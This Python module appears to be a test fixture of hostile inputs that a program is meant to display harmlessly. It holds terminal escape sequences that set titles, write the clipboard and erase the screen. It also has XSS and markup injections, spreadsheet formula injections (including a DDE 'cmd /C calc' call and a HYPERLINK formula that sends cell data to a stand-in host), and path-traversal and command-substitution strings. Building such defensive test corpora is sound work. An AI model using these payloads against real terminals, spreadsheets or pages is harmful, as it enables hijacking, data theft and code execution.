"""What a stranger may put into a text: we show all of it as letters, and it does nothing."""

from typing import Final

MARK: Final = "31337"
"""A number that nobody else writes in sequences for terminals."""

# All that steers a terminal or the reading direction, sign by sign: C0 except tab and line feed,
# DEL, C1, embeddings, overrides and isolates.
STEERING: Final = "".join(
    map(
        chr,
        (
            *(code for code in range(0x20) if code not in (0x09, 0x0A)),
            *range(0x7F, 0xA0),
            *range(0x202A, 0x202F),
            *range(0x2066, 0x206A),
        ),
    )
)

TERMINAL: Final = {
    "every sign": f"a{STEERING}b",
    "colour": f"\x1b[{MARK}mred\x1b[0;{MARK}m",
    "erase": f"\x1b[{MARK}J\x1b[2J\x1bc",
    "other screen": f"\x1b[?{MARK}l\x1b[?1049l\x1b[?1000h",
    "cursor": f"\x1b[{MARK};1Hhere\x1b[6n\x1b[{MARK}A",
    "title": f"\x1b]0;owned {MARK}\x07\x1b]2;owned\x1b\\\x1b[21t",
    "link": f"\x1b]8;;http://a.example/{MARK}\x1b\\link\x1b]8;;\x1b\\",
    "clipboard": f"\x1b]52;c;b3duZWQ={MARK}\x07",
    "notification": f"\x1b]9;{MARK}\x07\x1b]777;notify;a;{MARK}\x07\x1b]1337;File=:{MARK}\x07",
    "device control": f"\x1bP$q{MARK}\x1b\\\x1bP+q544e\x1b\\",
    "sixel": f"\x1bPq#0;2;0;0;0#0~~@@vv{MARK}\x1b\\",
    "application": f"\x1b_G{MARK}\x1b\\\x1b^{MARK}\x1b\\\x1bX{MARK}\x1b\\",
    "C1": f"\x9b{MARK}m\x9d0;owned {MARK}\x9c\x90q\x9c\x9f\x98\x85\x84",
    "characters": "\x1b(0qqq\x0eqqq\x0f\x1b(B\x1b#8\x1b%G",
    "back": "safe\x08\x08\x08\x08evil\rover\x7f\x07\x0b\x0c",
    "direction": "a\u202eexe.gnp\u202c b\u2066x\u2069 \u202a\u2067",
    "paste ends": f"\x1b[201~:{MARK}\x1b[200~",
    "NUL and halves": "a\x00b \ud800 \udfff",
}

MARKUP: Final = {
    "task": "[x] done",
    "action": "[@click=app.quit]leave[/]",
    "screen action": "[@click=screen.leave]away[/]",
    "link": "[link=https://a.example/]here[/link]",
    "style": "[red]red[/] [bold $error on red]b[/bold]",
    "closing": "[/]",
    "unbalanced": "[/x] [b",
    "escaped": "\\[b] \\",
    "emoji": ":smile: :warning:",
    "variables": "$text $error {0} {name} %s %(x)s ${HOME}",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;&#0;",
    "attribute": '" onmouseover="alert(1)" x="',
    "Markdown": "[a](javascript:alert(1)) ![i](http://a.example/i.png) **b** `c` # h | cell |",
    "address": "https://a.example/?q=1 www.a.example mailto:a@b.co file:///etc/passwd",
    "Mermaid": 'click A call alert(1)"]; %%{init: {}}%%',
}

FORMULAS: Final = (
    *(
        "=1+1",
        '=HYPERLINK("http://a.example/?x="&A1,"y")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
    ),
    *("\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b@A1", "\x00=1+1"),
    *("＝1+1", "＋1", "－1+1", "＠SUM(A1)", "﹦1", "−1+1"),
    *("a;=1+1", "a\t=1+1", "a\n=1+1", "a|=1+1", 'a";=1+1;"', 'a",=1+1,"', "a\r\n-cmd", "'=1+1"),
)
"""What a spreadsheet would calculate, also one that splits cells at another mark."""

PATHS: Final = (
    *(
        "../../x",
        "/etc/passwd",
        "~root",
        "~/x",
        "$HOME/x",
        "${HOME}",
        "%TEMP%\\x",
        "C:\\x",
        "\\\\h\\x",
    ),
    *(
        "..",
        ".",
        "",
        "a/../../b",
        "file:///etc/passwd",
        "a\x00b",
        "CON",
        "-rf",
        "..\\..\\x",
        "\u202e/x",
    ),
    *("/proc/self/fd/1", "|id", "`id`", "$(id)", "x\n../y", "．．／x", "a" * 300),
)
"""What would lead to another place if anything took it for a path."""
